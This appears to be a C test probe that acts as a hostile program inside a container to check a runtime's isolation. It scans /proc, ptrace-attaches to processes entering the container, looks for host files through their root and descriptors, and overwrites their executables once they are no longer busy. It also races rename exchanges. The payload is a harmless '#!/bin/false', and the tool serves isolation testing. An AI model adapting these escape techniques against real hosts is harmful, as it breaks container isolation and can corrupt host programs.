/*
 * peek: what a hostile program in a container tries on processes that have just come in, which
 * are for a moment runpod's own: helpers that have joined some namespaces and not all of them.
 *
 *	peek watch MARK     for every process that appears: attach to it with ptrace(2), and look
 *	                    for the host's file MARK below its root, its directory, its descriptors
 *	peek overwrite      keep open the executable of every process that is none of the image's,
 *	                    open it again for writing as soon as it is not busy, and write
 *	peek swap A B       exchanges two names again and again (renameat2(2), RENAME_EXCHANGE)
 *	peek who            its user ids and effective capabilities
 *
 * The first two run until the file /flag/stop is there, and tell then what they got and saw.
 */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static long seen, attached, marks, written;

/* Whether what link leads to is a file of the image's: it is there in our root under the same name. */
static int is_ours(const char *link)
{
	char path[512];
	struct stat theirs, ours;
	ssize_t n = readlink(link, path, sizeof(path) - 1);

	if (n < 0)
		return 0;
	path[n] = '\0';
	return !stat(link, &theirs) && !stat(path, &ours) && theirs.st_ino == ours.st_ino &&
	       theirs.st_dev == ours.st_dev;
}

static void look_below(const char *pid, const char *what, const char *mark)
{
	char path[600];

	snprintf(path, sizeof(path), "/proc/%s/%s/%s", pid, what, mark);
	if (!access(path, F_OK)) {
		printf("host file through %s\n", path);
		marks++;
	}
}

static void watch_one(const char *pid, const char *mark)
{
	pid_t number = (pid_t)atoi(pid);
	char link[300];

	look_below(pid, "root", mark);
	look_below(pid, "cwd", mark);
	for (int fd = 3; fd < 40; fd++) {
		char name[20];

		snprintf(name, sizeof(name), "fd/%d", fd);
		look_below(pid, name, mark);
	}
	if (ptrace(PTRACE_SEIZE, number, 0, 0) < 0)
		return;
	/* it may have become the container's own program meanwhile: then there is nothing to it */
	snprintf(link, sizeof(link), "/proc/%s/exe", pid);
	if (!is_ours(link)) {
		char path[200] = "";

		if (readlink(link, path, sizeof(path) - 1) > 0) {
			printf("attached to %s: %s\n", pid, path);
			attached++;
		}
	}
	ptrace(PTRACE_INTERRUPT, number, 0, 0);
	waitpid(number, NULL, __WALL);
	ptrace(PTRACE_DETACH, number, 0, 0);
}

static int held[32]; /* descriptors of such executables */
static int n_held;

static void hold_one(const char *pid)
{
	char path[300];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = n_held == sizeof(held) / sizeof(*held) ? -1 : open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	if (is_ours(path)) /* looked at only now: it may have become one of ours meanwhile */
		close(fd);
	else
		held[n_held++] = fd;
}

/* While a program runs, its file is busy; a descriptor of it can wait until it does not. */
static void overwrite_held(void)
{
	for (int i = 0; i < n_held; i++) {
		char path[64], name[200] = "";
		int out;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		out = open(path, O_WRONLY | O_CLOEXEC);
		if (out < 0)
			continue;
		if (write(out, "#!/bin/false\n", 13) > 0)
			written++;
		if (readlink(path, name, sizeof(name) - 1) > 0)
			printf("opened for writing: %s\n", name);
		close(out);
	}
}

static int each_process(int overwrite, const char *mark)
{
	while (access("/flag/stop", F_OK)) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			if (!isdigit((unsigned char)entry->d_name[0]) || atoi(entry->d_name) <= 1 ||
			    atoi(entry->d_name) == getpid())
				continue;
			seen++;
			if (overwrite)
				hold_one(entry->d_name);
			else
				watch_one(entry->d_name, mark);
		}
		if (proc)
			closedir(proc);
		overwrite_held();
	}
	overwrite_held();
	printf("looked %s, held %d, attached %ld, host files %ld, written %ld\n",
	       seen ? "at some" : "at none", n_held, attached, marks, written);
	return 0;
}

static int swap(const char *a, const char *b)
{
	puts("swapping");
	fflush(stdout);
	for (;;)
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
			return 1;
}

static int who(void)
{
	char line[200];
	FILE *status = fopen("/proc/self/status", "r");

	while (status && fgets(line, sizeof(line), status))
		if (!strncmp(line, "Uid:", 4) || !strncmp(line, "CapEff:", 7))
			fputs(line, stdout);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "watch"))
		return each_process(0, argv[2]);
	if (argc == 2 && !strcmp(argv[1], "overwrite"))
		return each_process(1, "");
	if (argc == 4 && !strcmp(argv[1], "swap"))
		return swap(argv[2], argv[3]);
	if (argc == 2 && !strcmp(argv[1], "who"))
		return who();
	fputs("usage: peek watch MARK | overwrite | swap A B | who\n", stderr);
	return 2;
}
